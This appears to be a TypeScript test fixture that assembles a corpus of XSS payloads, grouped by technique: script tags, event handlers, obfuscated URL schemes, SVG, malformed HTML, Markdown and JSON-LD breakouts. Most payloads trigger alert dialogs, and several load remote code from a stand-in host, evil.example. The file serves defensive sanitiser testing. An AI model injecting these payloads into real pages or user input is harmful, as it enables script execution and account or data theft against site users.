/**
 * The XSS corpus: classic vectors written for this suite, grouped by the trick they try. Every
 * payload that could execute calls alert/confirm/prompt, so the browser pass can listen for a
 * dialog. Some groups are expanded from small tables (tags × event handlers, URL schemes ×
 * sinks, obfuscations) so that each combination is tried; the list is de-duplicated at the end.
 */

export interface XssPayload {
  id: string;
  group: string;
  text: string;
}

const SCRIPT_TAGS = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script >alert(1)</script >',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script src=//evil.example/x.js></script>',
  '<script type="text/javascript">alert(1)</script>',
  '<script type="module">alert(1)</script>',
  '<script>alert(String.fromCharCode(88,83,83))</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)//',
  '<script>/*</script>*/alert(1)</script>',
  '<script\t>alert(1)</script>',
  '<script defer>alert(1)</script>',
  '<script async src=data:text/javascript,alert(1)></script>',
  '<script>eval(atob("YWxlcnQoMSk="))</script>',
  '<script>confirm(1)</script>',
  '<script>prompt(1)</script>',
  '<script>window["al"+"ert"](1)</script>',
  '<script>top["alert"](1)</script>',
  '<script>setTimeout("alert(1)")</script>',
  '<noscript><p title="</noscript><script>alert(1)</script>">',
];

const HANDLER_TAGS: [string, string][] = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['marquee', 'onstart'],
  ['div', 'onmouseover'],
  ['a href=#', 'onclick'],
  ['button', 'onclick'],
  ['form', 'onsubmit'],
  ['p', 'onpointerenter'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['track src=x', 'onerror'],
  ['source src=x', 'onerror'],
  ['keygen autofocus', 'onfocus'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onend'],
  ['math', 'onclick'],
  ['table background=x', 'onerror'],
  ['frameset', 'onload'],
  ['x contenteditable', 'onblur'],
  ['dialog open', 'onclose'],
  ['span tabindex=1 autofocus', 'onfocusin'],
];

const HANDLER_CODE = ['alert(1)', 'alert`1`', 'confirm(1)', '&#97;lert(1)', 'top[`al`+`ert`](1)'];

const URL_SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#x09;script:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  'javascript&colon;alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
];

const URL_SINKS = [
  (u: string) => `<a href="${u}">click</a>`,
  (u: string) => `<iframe src="${u}"></iframe>`,
  (u: string) => `<form action="${u}"><button>go</button></form>`,
  (u: string) => `<button formaction="${u}">go</button>`,
  (u: string) => `<object data="${u}"></object>`,
  (u: string) => `<embed src="${u}">`,
  (u: string) => `<svg><a xlink:href="${u}"><text y="20">x</text></a></svg>`,
];

const SVG = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)" /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><style>@import "javascript:alert(1)"</style></svg>',
  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
  '<svg><title><script>alert(1)</script></title></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<svg><image href=x onerror=alert(1)></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
];

const MALFORMED = [
  '<img src="x" onerror="alert(1)"',
  '<img src=x onerror=alert(1)//',
  '<img """><script>alert(1)</script>">',
  '<img src=`x` onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<a href="x"onmouseover="alert(1)">x</a>',
  '<div/onmouseover=alert(1)>x',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<listing><img src=x onerror=alert(1)></listing>',
  '<template><script>alert(1)</script></template>',
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<applet code="x"></applet>',
  '<link rel="import" href="https://evil.example/x.html">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<a href="#" style="position:fixed;inset:0" onclick="alert(1)">x</a>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<form><input type=submit formaction=javascript:alert(1)></form>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="\u0000javascript:alert(1)">x</a>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scrİpt>alert(1)</scrİpt>',
  '<img src=x onerror=\u0061lert(1)>',
  '<body onpageshow=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<img src=x onerror=alert(1) onerror=alert(2)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)" x="',
  '`><img src=x onerror=alert(1)>',
  '</a><a href="javascript:alert(1)">x',
  '<a href="javascript:alert(1)" <b>x</b>',
  '<<img src=x onerror=alert(1)>>',
  '<img src=x onerror=alert(1)>'.repeat(3),
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, meant literally
  '${alert(1)}',
];

const MARKDOWN = [
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](java\\script:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click]( javascript:alert(1) )',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '![image](javascript:alert(1))',
  '![image](x" onerror="alert(1))',
  '![image](https://example.org/a.png "\\" onerror=\\"alert(1)")',
  '[click](https://example.org/ "\\" onmouseover=\\"alert(1)")',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '[click][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>',
  '![image][ref]\n\n[ref]: javascript:alert(1) "title"',
  '<javascript:alert(1)>',
  '<https://example.org/"onmouseover="alert(1)>',
  '[a](https://example.org/?a=1"><script>alert(1)</script>)',
  '[<img src=x onerror=alert(1)>](https://example.org/)',
  '[x](#" onclick="alert(1))',
  '[^x]: <script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '> <img src=x onerror=alert(1)>',
  '- [ ] <img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '**<script>alert(1)</script>**',
  '<details open ontoggle=alert(1)>',
  '<a name="x" href="javascript:alert(1)">x</a>',
  '[click](javascript:alert&#40;1&#41;)',
  '[click](&#x6A;avascript:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](javascript://example.org/%0Aalert(1))',
];

const JSONLD_BREAKOUT = [
  '</script><script>alert(1)</script>',
  '</SCRIPT><script>alert(1)</script>',
  '</script ><script>alert(1)</script>',
  '</script\t><script>alert(1)</script>',
  '</script/x><script>alert(1)</script>',
  '<!--<script>',
  '<!--<script></script><script>alert(1)</script>-->',
  '"}</script><script>alert(1)</script>',
  '\\"}]}</script><img src=x onerror=alert(1)>',
  '\u2028\u2029</script><script>alert(1)</script>',
  ']]></script><script>alert(1)</script>',
  '</scrIpt><svg onload=alert(1)>',
];

function expand(): XssPayload[] {
  const out: XssPayload[] = [];
  const add = (group: string, text: string) => out.push({ id: '', group, text });
  for (const p of SCRIPT_TAGS) add('script-tag', p);
  for (const [i, [tag, handler]] of HANDLER_TAGS.entries()) {
    // every tag with the plain handler; a rotating obfuscation of the code on top
    add('event-handler', `<${tag} ${handler}=alert(1)>`);
    add('event-handler', `<${tag} ${handler}="${HANDLER_CODE[i % HANDLER_CODE.length]}">`);
  }
  for (const [i, scheme] of URL_SCHEMES.entries()) {
    add('url-scheme', URL_SINKS[0]!(scheme));
    add('url-scheme', URL_SINKS[1 + (i % (URL_SINKS.length - 1))]!(scheme));
  }
  for (const p of SVG) add('svg', p);
  for (const p of MALFORMED) add('malformed-html', p);
  for (const p of MARKDOWN) add('markdown', p);
  for (const p of JSONLD_BREAKOUT) add('jsonld-breakout', p);
  const seen = new Set<string>();
  return out
    .filter((p) => {
      if (seen.has(p.text)) return false;
      seen.add(p.text);
      return true;
    })
    .map((p, i) => ({ ...p, id: `p${String(i + 1).padStart(3, '0')}` }));
}

export const XSS_PAYLOADS: readonly XssPayload[] = expand();
